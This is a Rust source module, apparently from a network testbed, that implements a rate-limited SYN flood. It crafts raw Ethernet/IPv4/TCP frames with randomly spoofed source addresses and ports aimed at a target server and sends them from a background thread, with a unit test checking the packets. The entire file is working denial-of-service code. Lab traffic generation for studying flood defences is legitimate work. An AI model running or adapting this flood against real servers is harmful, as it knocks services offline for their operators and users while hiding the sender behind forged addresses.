//! SYNs that nobody means, from random sources to random ports, at a bounded rate.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Result, anyhow};

use crate::raw_port::RawPort;

/// Packets sent between two looks at the clock, at most.
const BURST: u64 = 64;

/// Where a flood goes.
#[derive(Clone, Copy, Debug)]
pub struct Aim {
    /// Link addresses: source, destination.
    pub macs: ([u8; 6], [u8; 6]),
    /// The server that is meant.
    pub server: Ipv4Addr,
    /// Packets per second at most.
    pub rate: u64,
}

/// A flood under way. Dropping it ends it.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    began: Instant,
    thread: Option<JoinHandle<Result<()>>>,
}

impl Flood {
    /// Begins to send into `port`.
    pub fn begin(port: RawPort, aim: Aim) -> Self {
        let (stop, sent) = (Arc::<AtomicBool>::default(), Arc::<AtomicU64>::default());
        let (stopped, count) = (stop.clone(), sent.clone());
        let began = Instant::now();
        let thread = thread::spawn(move || pour(&port, &aim, began, &stopped, &count));
        Self { stop, sent, began, thread: Some(thread) }
    }

    /// Packets sent so far, and per second.
    pub fn sent(&self) -> (u64, f64) {
        let sent = self.sent.load(Relaxed);
        (sent, sent as f64 / self.began.elapsed().as_secs_f64())
    }

    /// Ends it; packets sent, and per second.
    pub fn end(mut self) -> Result<(u64, f64)> {
        let sent = self.sent();
        self.stop.store(true, Relaxed);
        match self.thread.take().map(JoinHandle::join) {
            Some(Ok(outcome)) => outcome.map(|()| sent),
            _ => Err(anyhow!("the flood's thread died")),
        }
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Relaxed);
    }
}

fn pour(port: &RawPort, aim: &Aim, began: Instant, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    while !stop.load(Relaxed) {
        let due = (began.elapsed().as_secs_f64() * aim.rate as f64) as u64;
        let behind = due.saturating_sub(sent.load(Relaxed)).min(BURST);
        for _ in 0..behind {
            // xorshift64, G. Marsaglia 2003.
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            port.send(&syn(aim, random))?;
        }
        sent.fetch_add(behind, Relaxed);
        if behind < BURST {
            thread::sleep(Duration::from_micros(500));
        }
    }
    Ok(())
}

/// A SYN whose source and ports are in `random`.
fn syn(aim: &Aim, random: u64) -> [u8; 54] {
    let [a, b, c, d, e, f, g, h] = random.to_be_bytes();
    let mut frame = [0; 54];
    frame[..6].copy_from_slice(&aim.macs.1);
    frame[6..12].copy_from_slice(&aim.macs.0);
    frame[12..14].copy_from_slice(&[8, 0]);
    frame[14..34].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    // 128.0.0.0 to 191.255.255.255: none of the bed's.
    frame[26..30].copy_from_slice(&[0x80 | a & 0x3f, b, c, d]);
    frame[30..34].copy_from_slice(&aim.server.octets());
    let sum: u32 =
        frame[14..34].chunks(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum();
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = (sum & 0xffff) + (sum >> 16);
    frame[24..26].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    frame[34..38].copy_from_slice(&[e | 4, f, 1, g | 1]);
    frame[38..42].copy_from_slice(&[a, c, e, h]);
    frame[46..50].copy_from_slice(&[0x50, 2, 0xfa, 0xf0]);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_of_the_flood_is_a_true_one_and_no_two_are_alike() {
        let aim = Aim { macs: ([1; 6], [2; 6]), server: Ipv4Addr::new(10, 2, 0, 200), rate: 1 };
        let one = syn(&aim, 0x0102_0304_0506_0708);
        let packet = etherparse::PacketHeaders::from_ethernet_slice(&one).unwrap();
        let Some(etherparse::NetHeaders::Ipv4(ip, _)) = packet.net else { panic!("no IPv4") };
        assert_eq!(ip.header_checksum, ip.calc_header_checksum());
        assert_eq!((ip.source, ip.destination), ([0x81, 2, 3, 4], [10, 2, 0, 200]));
        let Some(etherparse::TransportHeader::Tcp(tcp)) = packet.transport else { panic!("no TCP") };
        assert!(tcp.syn && !tcp.ack);
        assert_ne!(one, syn(&aim, 0x0102_0304_0506_0709 << 8));
    }
}
